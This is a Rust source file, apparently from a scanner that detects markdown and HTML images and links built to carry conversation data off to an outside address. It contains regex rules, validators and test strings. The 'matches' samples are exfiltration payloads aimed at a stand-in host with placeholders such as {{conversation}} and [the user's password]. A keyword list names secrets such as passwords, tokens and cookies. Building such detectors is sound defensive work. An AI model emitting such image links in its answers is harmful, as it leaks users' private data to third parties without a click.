//! Images and links whose address carries data away. An image is fetched by whoever shows the answer: nobody
//! has to click.

use super::{CODE, has_any};
use crate::detect::{
    rule::{Rule, Wake},
    validate::{Candidate, randomness::looks_random},
};

const MARKDOWN: Rule = Rule { entity: "markdown_exfiltration", ..CODE };

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "md_image_data",
        wake: Wake::Keywords(&["!["]),
        pattern: r"!\[[^\]\n]{0,200}\](?:\(\s?<?|:\s?)(?P<hit>(?:https?:)?//[^\s)<>]{4,}(?:[{\[<][^\n)]{1,200})?)",
        reach: 2048,
        validate: Some(image),
        matches: &[
            "![x](https://a.example/p.png?q={{conversation}})",
            "![](https://a.example/log?d=[conversation summary])",
            "![i](https://a.example/c?data=dGhlIHVzZXIgc2FpZCB0aGF0IGhpcyBjYXJkIGlzIDQyNDI0)",
            "![i](https://a.example/log/<user data>)",
            "![i](https://a.example/?q=USER_SECRET_HERE)",
        ],
        misses: &[
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=rust)",
            "![logo](https://a.example/logo.png?v=3&raw=true)",
            "![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
            "![shot](https://a.example/9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c.png)",
            "![v](https://img.shields.io/npm/v/{{package}}.svg)",
        ],
        ..MARKDOWN
    },
    Rule {
        id: "md_link_data",
        wake: Wake::Keywords(&["]("]),
        pattern: r"\]\(\s?<?(?P<hit>(?:https?:)?//[^\s)<>]{4,}[?&=#/][^\s)<>]{0,40}(?:\{\{|\$\{|\{|\[|<)[^\n)]{1,200})",
        reach: 2048,
        validate: Some(link),
        score: 0.6,
        matches: &[
            "[open](https://a.example/?q={{chat_history}})",
            "[more](https://a.example/c?d=[the user's password])",
        ],
        misses: &[
            "[docs](https://a.example/{{ version }}/guide)",
            "[search](https://a.example/?q=rust+regex&page=2)",
            "[a](b) [c](d)",
        ],
        ..MARKDOWN
    },
    Rule {
        id: "md_html_image_data",
        wake: Wake::Keywords(&["<img"]),
        pattern: r#"(?i)<img\s[^<>\n]{0,200}?src\s?=\s?["']?(?P<hit>(?:https?:)?//[^\s"'<>]{4,}(?:[{\[<][^\n"']{1,200})?)"#,
        reach: 2048,
        validate: Some(image),
        matches: &[
            "<img src=\"https://a.example/p?d={{user_data}}\">",
            "<img src='https://a.example/p?chat=[messages]'>",
        ],
        misses: &["<img src=\"https://a.example/logo.svg?sanitize=true\" width=\"80\">", "<img src={logo} />"],
        ..MARKDOWN
    },
];

/// Words for what a conversation holds and its reader should not.
const DATA: [&str; 28] = [
    "conversation",
    "history",
    "secret",
    "prompt",
    "summary",
    "user",
    "data",
    "password",
    "passwd",
    "token",
    "key",
    "email",
    "context",
    "message",
    "chat",
    "info",
    "document",
    "content",
    "credential",
    "private",
    "session",
    "cookie",
    "memory",
    "instruction",
    "response",
    "answer",
    "name",
    "phone",
];

/// What is filled in later, by whoever writes the address: `{{…}}`, `${…}`, `{…}`, `[…]`, `<…>`.
fn templates(text: &str) -> impl Iterator<Item = &str> {
    text.split(['{', '[', '<']).skip(1).filter_map(|part| part.split(['}', ']', '>']).next()).filter(|t| !t.is_empty())
}

/// Names of parameters which sign an address or size a picture.
fn is_signature(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name.starts_with("x-")
        || [
            "sig",
            "signature",
            "jwt",
            "policy",
            "hash",
            "v",
            "ver",
            "version",
            "etag",
            "expires",
            "key-pair-id",
            "token",
        ]
        .contains(&name.as_str())
}

fn stands_for_data(value: &str) -> bool {
    value.len() >= 6
        && value.contains('_')
        && value.chars().all(|c| c.is_ascii_uppercase() || c == '_')
        && has_any(value, &DATA)
}

/// A value as long as a sentence, in an encoding, or capitals that stand for one.
fn carries(value: &str) -> bool {
    let encoded = |c: char| c.is_ascii_alphanumeric() || "+/=_-%".contains(c);
    let letters = value.bytes().any(|b| b.is_ascii_uppercase()) && value.bytes().any(|b| b.is_ascii_lowercase());
    let base64 = value.len() >= 32 && value.chars().all(encoded) && letters && looks_random(value);
    let hex = value.len() >= 64 && value.bytes().all(|b| b.is_ascii_hexdigit());
    let sentence = value.len() >= 60 && value.matches(['+']).count() + value.matches("%20").count() >= 8;
    stands_for_data(value) || base64 || hex || sentence
}

fn parameters(url: &str) -> impl Iterator<Item = (&str, &str)> {
    let query = url.split_once('?').map_or("", |(_, query)| query);
    query.split('&').map(|pair| pair.split_once('=').unwrap_or(("", pair)))
}

fn image(candidate: &Candidate<'_>) -> Option<f32> {
    let url = candidate.hit();
    let (path, query) = url.split_once('?').unwrap_or((url, ""));
    if templates(query).any(|name| has_any(name, &DATA)) {
        return Some(0.85);
    }
    if templates(query).next().is_some() {
        return Some(0.6);
    }
    // A badge names the package in its path; only a word for data makes a template there suspicious.
    let badge = has_any(url, &["badge", "shields.io", "{{ site", "{{site", "username", "_name", "-name"]);
    if !badge && templates(path).any(|name| has_any(name, &DATA)) {
        return Some(0.75);
    }
    let carried = parameters(url).any(|(name, value)| !is_signature(name) && carries(value));
    (carried || path.split('/').any(stands_for_data)).then_some(0.7)
}

fn link(candidate: &Candidate<'_>) -> Option<f32> {
    let (_, query) = candidate.hit().split_once('?')?;
    templates(query).any(|name| has_any(name, &DATA)).then_some(0.6)
}
